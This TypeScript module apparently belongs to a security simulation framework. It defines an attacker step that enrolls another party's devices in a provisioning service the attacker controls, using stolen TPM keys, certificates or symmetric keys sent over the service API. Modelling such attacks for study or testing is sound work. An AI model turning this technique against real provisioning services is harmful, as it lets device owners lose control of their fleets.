import { z } from 'zod';
import { toPem } from '../../../core/x509/der/pem.ts';
import { reference } from '../../scenario/words/words.ts';
import type { Attacker, Target } from '../attacker.ts';
import { hostileStep } from '../hostile-step.ts';
import type { Loot } from '../loot.ts';
import { policyToken } from '../policy-token.ts';
import type { OwnService } from '../wires.ts';

/** The owner of another service enrolls devices that are not his; for most of them he needs nothing secret. */
export const enrollElsewhereStep = hostileStep({
  name: 'enroll-elsewhere',
  summary: "An attacker enrolls somebody's devices in a provisioning service of his own, over its service API.",
  args: z.strictObject({
    device: reference('device', 'Device or fleet that he wants to call his service.'),
    service: reference('stranger', 'His service, one of cloud: strangers.'),
    with: reference(
      'loot',
      'What he knows of them: public keys of a TPM or certificates, from steal-key with publicKeys: true, or a symmetric key.',
    ),
  }),
  run: async (attacker, words) => {
    const service = attacker.wires.ownService(words.service);
    if (service === undefined) return attacker.refuse(`no service of a stranger is called "${words.service}"`);
    const loot = attacker.held(words.with);
    for (const { path, body, of } of enrollmentsFor(attacker, await attacker.targets(words.device), loot)) {
      const { status } = await put(attacker, service, path, body);
      attacker.tell(of, `the service of ${words.service} answers ${status} to its enrollment there`);
    }
  },
});

interface Written {
  /** Of the service API, without the query. */
  readonly path: string;
  readonly body: object;
  readonly of: string;
}

/** One group where he knows a CA of theirs, else an enrollment for each. */
function enrollmentsFor(attacker: Attacker, targets: readonly Target[], loot: Loot): readonly Written[] {
  if (loot.kind === 'public-chain' && loot.certificates.length > 1) {
    const [, ca] = loot.certificates.map(toPem);
    const signingCertificates = { primary: { certificate: ca } };
    const attestation = { type: 'x509', x509: { signingCertificates } };
    const enrollmentGroupId = 'not-mine';
    const body = { enrollmentGroupId, attestation };
    return [{ path: `/enrollmentGroups/${enrollmentGroupId}`, body, of: targets.map(({ name }) => name).join(', ') }];
  }
  const attestation = attestationFrom(attacker, loot);
  return targets.map(({ name, registrationId }) => ({
    path: `/enrollments/${encodeURIComponent(registrationId)}`,
    body: { registrationId, attestation },
    of: name,
  }));
}

function attestationFrom(attacker: Attacker, loot: Loot): object {
  if (loot.kind === 'public-chain') {
    const [certificate] = loot.certificates.map(toPem);
    return { type: 'x509', x509: { clientCertificates: { primary: { certificate } } } };
  }
  if (loot.kind === 'public-keys') {
    return { type: 'tpm', tpm: { endorsementKey: loot.endorsementKey.toString('base64') } };
  }
  if (loot.kind === 'symmetric-key') {
    const key = loot.key.toString('base64');
    return { type: 'symmetricKey', symmetricKey: { primaryKey: key, secondaryKey: key } };
  }
  return attacker.refuse('enroll-elsewhere needs public keys, certificates or a symmetric key');
}

function put(attacker: Attacker, service: OwnService, path: string, body: object) {
  const { host } = service;
  const token = policyToken(attacker, host, service);
  return attacker.wires.request({ host, method: 'PUT', path: `${path}?api-version=2021-10-01`, body, token });
}
